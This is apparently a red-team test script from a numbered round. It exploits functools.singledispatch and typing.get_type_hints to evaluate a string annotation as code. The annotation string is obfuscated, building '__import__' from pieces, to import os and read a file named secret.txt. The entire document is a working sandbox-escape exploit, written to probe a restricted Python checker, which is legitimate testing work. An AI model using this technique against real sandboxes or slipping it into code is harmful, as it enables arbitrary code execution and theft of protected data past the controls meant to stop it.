# family: red team, round 10 (register_instance_staticmethod_subclass)
# d.register(Maker(target)) is accepted when Maker is a class of the tool without __new__; Maker derives from
# staticmethod, whose objects copy the wrapped function's __annotations__ and keep it in __wrapped__. target is
# only an argument here, so its annotations are never judged: a name bound to a run-time string, which
# typing.get_type_hints (run by register) evaluates in target's globals with the real builtins.
import functools

SINK = []


def _d(word):
    u = "_"
    return u + u + word + u + u


CODE = "[SINK.append(" + _d("import") + "('os')), int][1]"


def target(value: CODE) -> None:
    return None


class Maker(staticmethod):
    pass


@functools.singledispatch
def dispatch(value):
    return value


def run():
    dispatch.register(Maker(target))
    osmod = SINK[0]
    fd = osmod.open("/tmp/r10/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return type(osmod).__name__, osmod.getpid(), text


print(run())
